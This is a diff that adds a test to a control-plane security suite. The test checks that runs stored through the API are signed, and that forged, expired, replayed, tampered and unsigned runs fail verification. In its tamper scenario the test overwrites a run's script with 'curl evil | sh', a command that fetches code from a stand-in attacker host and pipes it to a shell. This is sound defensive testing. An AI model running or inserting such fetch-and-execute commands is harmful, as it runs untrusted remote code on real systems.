@@ -5,6 +5,7 @@ import { expect } from 'chai';
 import { send, startTestController } from '../lib/controller.js';
 import type { TestController } from '../lib/controller.js';
 import { repoPath } from '../lib/paths.js';
+import { verifyRun } from '@hyprbox/crds';
 
 const G = '/apis/hyprbox.io/v1alpha1';
 const API = 'hyprbox.io/v1alpha1';
@@ -262,6 +263,41 @@ describe('control-plane security', function () {
         expect(keys(after)).to.deep.equal(keys(before));
       });
     }
+  });
+
+  describe('signed runs', () => {
+    it('the API signs every run it stores; runs written around it do not verify', async () => {
+      const key = await send(`${c.url}/hyprbox/v1/signing-key`, 'GET', new Headers({ Authorization: `Bearer ${tokens.agent}` }), undefined);
+      expect(key.status).to.equal(200);
+      const pem = await key.text();
+      expect(pem).to.contain('BEGIN PUBLIC KEY');
+      const run = await mustAdmin('POST', `${G}/namespaces/acme/runs`, {
+        apiVersion: API, kind: 'Run', metadata: { name: 'signed-1' },
+        spec: { nodeName: 'web-1', preset: 'p1', steps: [{ name: 'apply', script: 'echo hi' }], signature: 'forged', params: { b: 1, a: 2 } },
+      });
+      expect(run.spec.signature).to.not.equal('forged');
+      expect(verifyRun(run, pem, { now: new Date() })).to.deep.equal({ ok: true });
+      expect(verifyRun(run, pem, { now: new Date(Date.parse(run.spec.expiresAt) + 1000) }).ok).to.equal(false);
+      expect(verifyRun(run, pem, { now: new Date(), executed: (uid) => uid === run.metadata.uid })).to.include({ ok: false, reason: 'Replayed' });
+
+      // An approval through the API keeps the run valid (and renews its expiry).
+      const approved = await call('operator', 'PATCH', `${G}/namespaces/acme/runs/signed-1`, { spec: { approvedBy: ['operator'] } }, 'application/merge-patch+json');
+      expect(approved.status).to.equal(200);
+      expect(verifyRun(approved.body, pem, { now: new Date() })).to.deep.equal({ ok: true });
+
+      // Someone with store access swaps the script: the run no longer verifies.
+      const key1 = '/registry/hyprbox.io/runs/acme/signed-1';
+      const kv = await c.controller.store.get(key1);
+      const tampered = JSON.parse(kv!.value) as Json;
+      tampered.spec.steps[0].script = 'curl evil | sh';
+      await c.controller.store.update(key1, JSON.stringify(tampered), kv!.modRevision);
+      const read = await mustAdmin('GET', `${G}/namespaces/acme/runs/signed-1`);
+      expect(verifyRun(read, pem, { now: new Date() })).to.include({ ok: false, reason: 'Tampered' });
+      // And one created straight in the store has no signature at all.
+      const bare = { ...tampered, metadata: { ...tampered.metadata, name: 'bare-1', uid: 'u-bare' }, spec: { ...tampered.spec, signature: undefined } };
+      await c.controller.store.create('/registry/hyprbox.io/runs/acme/bare-1', JSON.stringify(bare));
+      expect(verifyRun(await mustAdmin('GET', `${G}/namespaces/acme/runs/bare-1`), pem, { now: new Date() })).to.include({ ok: false, reason: 'Unsigned' });
+    });
   });
 
   describe('audit', () => {
